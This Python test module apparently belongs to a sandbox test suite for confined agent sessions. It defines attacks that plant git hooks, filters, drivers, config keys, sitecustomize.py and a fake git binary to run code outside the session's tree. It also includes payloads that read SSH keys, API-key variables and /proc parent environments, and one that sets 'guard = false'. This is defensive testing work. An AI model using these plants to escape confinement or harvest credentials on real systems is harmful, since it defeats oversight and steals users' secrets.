"""What a session leaves for others to run: hooks, filters, drivers, configuration.

Each planted program writes a file next to the repository's folder, where only a command that is not confined
to the story's tree can make it; sessions cannot, since the folder is closed to them, too.
"""

from tests.attacks.attack import SECRETS, WRITES, Attack, appeared

_HOOKS = (
    "pre-commit",
    "post-commit",
    "commit-msg",
    "prepare-commit-msg",
    "post-checkout",
    "post-index-change",
    "reference-transaction",
    "pre-auto-gc",
)
_SETTINGS = {
    "filter-clean": ("filter.own.clean", "*.dat filter=own"),
    "filter-smudge": ("filter.own.smudge", "*.dat filter=own"),
    "filter-process": ("filter.own.process", "*.dat filter=own"),
    "textconv": ("diff.own.textconv", "*.dat diff=own"),
    "external-diff": ("diff.own.command", "*.dat diff=own"),
    "diff-external": ("diff.external", ""),
    "merge-driver": ("merge.own.driver", "*.dat merge=own"),
    "fsmonitor": ("core.fsmonitor", ""),
    "editor": ("core.editor", ""),
    "pager": ("core.pager", ""),
    "signing": ("gpg.program", ""),
    "ssh": ("core.sshCommand", ""),
    "credential": ("credential.helper", ""),
    "alternate-refs": ("core.alternateRefsCommand", ""),
}

_SILENT = "it is a file of its own tree; what runs it is confined like a session, and git tells nobody of it"
_THIEVES = {
    "file": 'cat "$HOME/.ssh/id_ed25519" "$HOME/.npmrc"',
    "variable": 'echo "$STRIPE_SECRET_KEY$ANTHROPIC_API_KEY$DEPLOY"',
    "parent": "cat /proc/$PPID/environ",
}


def attacks() -> list[Attack]:
    """Return the attacks of this family."""
    found = [
        _attack(f"hook-{hook}", f"{_program(f'hook-{hook}', f'.husky/{hook}')}; echo x > x-{hook}")
        for hook in _HOOKS
    ]
    for name, (key, attribute) in _SETTINGS.items():
        program = _program(name, "planted")
        configure = f'git config --worktree {key} "./planted" || git config -f "$(git rev-parse --git-dir)/config.worktree" {key} ./planted'
        more = (
            "git config -f $(git rev-parse --git-dir)/config.worktree commit.gpgSign true;"
            if name == "signing"
            else ""
        )
        found.append(
            _attack(
                name, f"{program}; {configure}; {more} echo '{attribute}' > .gitattributes; echo x > x.dat"
            )
        )
    include = _program("include", "planted")
    found += [
        _attack(
            "include",
            f'{include}; printf "[core]\\nfsmonitor=./planted\\n" > inc; git config -f "$(git rev-parse --git-dir)/config.worktree" include.path "$PWD/inc"; echo x > x',
        ),
        _attack(
            "nested",
            f"git init -q inner; cd inner; {_program('nested', 'planted')}; git config core.fsmonitor ./planted; echo x > x; git add x; git commit -qm x; cd ..; git add inner",
        ),
        _attack(
            "submodule",
            f"{_program('submodule', 'planted')}; printf '[submodule \"s\"]\\npath=s\\nurl=./s\\nupdate=!./planted\\n' > .gitmodules; echo x > x",
        ),
        _attack(
            "relative-filter",
            f"{_program('relative-filter', 'tools/clean')}; echo '*.dat filter=relative' > .gitattributes; echo x > x.dat",
        ),
        _attack(
            "own-settings",
            f'{_program("own-settings", "planted")}; printf \'verify = ["./planted"]\\nguard = false\\n[hooks]\\nafter_run = "./planted"\\n\' > autopilot-multi.toml',
        ),
        _attack(
            "python-path",
            f"{_program('python-path', 'planted')}; printf 'import os; os.system(\"./planted\")' > sitecustomize.py; cp sitecustomize.py usercustomize.py; cp sitecustomize.py runner.py",
        ),
        _attack("git-program", f"{_program('git-program', 'git')}; mkdir -p bin; cp git bin/git"),
    ]
    return found + [_thief(name, script) for name, script in _THIEVES.items()]


def _thief(name: str, script: str) -> Attack:
    """Have the program's own git command read what the session cannot, and make it a file of the story."""
    program = f"mkdir -p tools; printf '%s\\n' '#!/bin/sh' '{script}' > tools/clean; chmod +x tools/clean"
    return Attack(
        name=f"planted-thief-{name}",
        family="planted hooks, filters, configuration",
        script=f"{program}; echo '*.dat filter=relative' > .gitattributes; echo x > x.dat",
        seal=SECRETS,
        proof=lambda evidence, name: "HUNTED" in evidence.shown[f"committed {name}"],
        silent=_SILENT,
        group=f"planted-thief-{name}",
    )


def _program(name: str, path: str) -> str:
    return (
        f"mkdir -p $(dirname {path}); printf '%s\\n' '#!/bin/sh' \"echo ran >> $REPO/ran-{name}\" "
        f"\"echo ran >> $ROOT/ran-{name}\" 'cat' > {path}; chmod +x {path}"
    )


def _attack(name: str, script: str) -> Attack:
    return Attack(
        name=f"planted-{name}",
        family="planted hooks, filters, configuration",
        script=script,
        seal=WRITES,
        proof=lambda evidence, _: any(
            appeared(f"{folder}/ran-{name}")(evidence, "") for folder in ("repo", "repo.worktrees")
        ),
        group=f"planted-{name}",
        target="inner" if name == "nested" else "",
        silent=_SILENT,
    )
